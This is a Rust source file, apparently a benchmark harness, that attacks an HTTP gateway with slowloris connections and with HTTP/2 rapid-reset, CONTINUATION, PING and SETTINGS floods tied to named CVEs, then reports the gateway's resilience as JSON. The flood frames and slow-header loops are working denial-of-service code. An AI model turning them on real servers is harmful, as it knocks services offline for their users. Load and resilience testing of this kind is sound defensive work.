//! Clients that attack a gateway while others use it, for the bench: many that hold connections with heads that never end (slowloris), and
//! a few that flood HTTP/2 connections with frames (rapid reset, CONTINUATION, PING, SETTINGS). Whoever is thrown out comes again.
//!
//! Prints `open` and how many slow ones there are once all are at it, and at the end of its standard input what became of them, as JSON.

use std::cell::{Cell, RefCell};
use std::io::Read as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::rc::Rc;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use clap::Parser;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::LocalSet;

/// Attacks a gateway until its standard input ends.
#[derive(Debug, Parser)]
struct Args {
    /// Where the gateway listens.
    #[arg(long)]
    at: SocketAddr,
    /// The host that is asked for.
    #[arg(long)]
    host: String,
    /// Connections with heads that never end.
    #[arg(long)]
    slow: usize,
    /// Addresses from which these come: 127.0.1.1 and on.
    #[arg(long, default_value_t = 8)]
    addresses: u8,
}

/// Between two fields of a slow head.
const DRIP: Duration = Duration::from_secs(3);
/// Before somebody who was thrown out comes again, and between two connections of a flooder.
const AGAIN: Duration = Duration::from_millis(200);
/// A flooder who is still there then is told as never thrown out.
const ENDURED: Duration = Duration::from_secs(5);
/// Slow ones that come every 10 ms in the beginning: more would not fit into a listener's queue.
const PACE: usize = 50;
/// Frames written at once.
const BATCH: u32 = 100;

/// What has become of the attackers.
#[derive(Default)]
struct Seen {
    /// Slow connections at the moment.
    open: Cell<usize>,
    /// Slow connections that the gateway has ended.
    ended: Cell<usize>,
    /// Slow connections that could not be made, or were ended before their first drip.
    refused: Cell<usize>,
}

/// A kind of flood.
struct Flood {
    name: &'static str,
    /// The frames after so many others.
    frames: fn(u32) -> Vec<u8>,
    /// Milliseconds from the first of them to the connection's end.
    ended: RefCell<Vec<f64>>,
    endured: Cell<usize>,
}

/// A frame of HTTP/2 (RFC 9113 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let stream = stream.to_be_bytes();
    [&length[1..], &[kind, flags], &stream, payload].concat()
}

/// The header block of a GET, by the static table (RFC 7541 appendix A) and without Huffman's code.
fn get() -> Vec<u8> {
    let host = b"app.gateway.example";
    [&[0x82, 0x86, 0x84, 0x01, host.len() as u8], &host[..]].concat()
}

fn floods() -> [Flood; 4] {
    let flood = |name, frames| Flood {
        name,
        frames,
        ended: RefCell::default(),
        endured: Cell::default(),
    };
    [
        // CVE-2023-44487: HEADERS, and at once RST_STREAM with CANCEL.
        flood("rapid reset", |sent| {
            let one = |i| {
                let stream = (sent + i) * 2 + 1;
                [frame(1, 5, stream, &get()), frame(3, 0, stream, &8_u32.to_be_bytes())].concat()
            };
            (0..BATCH).flat_map(one).collect()
        }),
        // CVE-2024-27316: a head that goes on in CONTINUATION without end.
        flood("CONTINUATION", |sent| {
            let first = if sent == 0 { frame(1, 1, 1, &get()) } else { Vec::new() };
            let next = (0..BATCH).flat_map(|_| frame(9, 0, 1, b"\0\x03x-a\x01b"));
            first.into_iter().chain(next).collect()
        }),
        // CVE-2019-9512 and 9515.
        flood("PING", |_| frame(6, 0, 0, b"flooding").repeat(BATCH as usize)),
        flood("SETTINGS", |_| frame(4, 0, 0, &[]).repeat(BATCH as usize)),
    ]
}

async fn connect(from: Ipv4Addr, at: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::V4(from), 0))?;
    socket.connect(at).await
}

/// Holds one connection after the other, for ever.
async fn slow(from: Ipv4Addr, args: Rc<Args>, seen: Rc<Seen>) {
    let count = |cell: &Cell<usize>| cell.set(cell.get() + 1);
    loop {
        let mut drips = 0;
        if let Ok(mut stream) = connect(from, args.at).await {
            count(&seen.open);
            drips = drip(&mut stream, &args.host).await;
            seen.open.set(seen.open.get() - 1);
        }
        // Whoever is not let in at all waits longer: there may be thousands.
        let (told, pause) = if drips == 0 {
            (&seen.refused, AGAIN * 10)
        } else {
            (&seen.ended, AGAIN)
        };
        count(told);
        tokio::time::sleep(pause).await;
    }
}

/// Sends a head that does not end until the connection does; how often it could go on.
async fn drip(stream: &mut TcpStream, host: &str) -> u32 {
    let mut drips = 0;
    let mut next = format!("GET / HTTP/1.1\r\nHost: {host}\r\n");
    let mut buffer = [0; 512];
    loop {
        if stream.write_all(next.as_bytes()).await.is_err() {
            return drips;
        }
        next = "X-A: b\r\n".into();
        let pause = tokio::time::sleep(DRIP);
        tokio::pin!(pause);
        loop {
            tokio::select! {
                // An answer may come before the end.
                read = stream.read(&mut buffer) => if !matches!(read, Ok(1..)) { return drips; },
                () = &mut pause => break,
            }
        }
        drips += 1;
    }
}

/// Floods one connection after the other, for ever.
async fn flood(from: Ipv4Addr, at: SocketAddr, flood: Rc<Flood>) {
    loop {
        if let Ok(stream) = connect(from, at).await {
            let (mut read, mut write) = stream.into_split();
            let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(4, 0, 0, &[])[..]].concat();
            let began = Instant::now();
            let reading = async {
                let mut buffer = [0; 16_384];
                while matches!(read.read(&mut buffer).await, Ok(1..)) {}
            };
            let writing = async {
                let mut sent = write.write_all(&hello).await;
                let mut frames = 0;
                while sent.is_ok() {
                    sent = write.write_all(&(flood.frames)(frames)).await;
                    frames += BATCH;
                }
            };
            let both = async {
                tokio::select! {
                    () = reading => {}
                    () = writing => {}
                }
            };
            if tokio::time::timeout(ENDURED, both).await.is_ok() {
                flood.ended.borrow_mut().push(began.elapsed().as_secs_f64() * 1e3);
            } else {
                flood.endured.set(flood.endured.get() + 1);
            }
        }
        tokio::time::sleep(AGAIN).await;
    }
}

/// What is told in the end.
fn report(seen: &Seen, floods: &[Rc<Flood>]) -> serde_json::Value {
    let floods = floods.iter().map(|flood| {
        let mut times = flood.ended.borrow().clone();
        times.sort_by(f64::total_cmp);
        let told = serde_json::json!({
            "ended": times.len(),
            "median_ms": times.get(times.len() / 2),
            "longest_ms": times.last(),
            "endured": flood.endured.get(),
        });
        (flood.name.to_owned(), told)
    });
    serde_json::json!({
        "open": seen.open.get(),
        "ended": seen.ended.get(),
        "refused": seen.refused.get(),
        "floods": floods.collect::<serde_json::Map<_, _>>(),
    })
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    rlimit::increase_nofile_limit(u64::MAX).context("raising the limit of open files")?;
    let args = Rc::new(Args::parse());
    let (seen, floods) = (Rc::<Seen>::default(), floods().map(Rc::new));
    let all = LocalSet::new();
    let (over, end) = tokio::sync::oneshot::channel();
    std::thread::spawn(move || {
        let _ = std::io::stdin().read_to_end(&mut Vec::new());
        let _ = over.send(());
    });
    all.run_until(async {
        for i in 0..args.slow {
            let from = Ipv4Addr::new(127, 0, 1, 1 + (i % usize::from(args.addresses.max(1))) as u8);
            tokio::task::spawn_local(slow(from, Rc::clone(&args), Rc::clone(&seen)));
            if i % PACE == 0 {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
        for (i, one) in (1..).zip(&floods) {
            tokio::task::spawn_local(flood(Ipv4Addr::new(127, 0, 2, i), args.at, Rc::clone(one)));
        }
        println!("open {}", seen.open.get());
        let _ = end.await;
    })
    .await;
    println!("{}", report(&seen, &floods));
    Ok(())
}
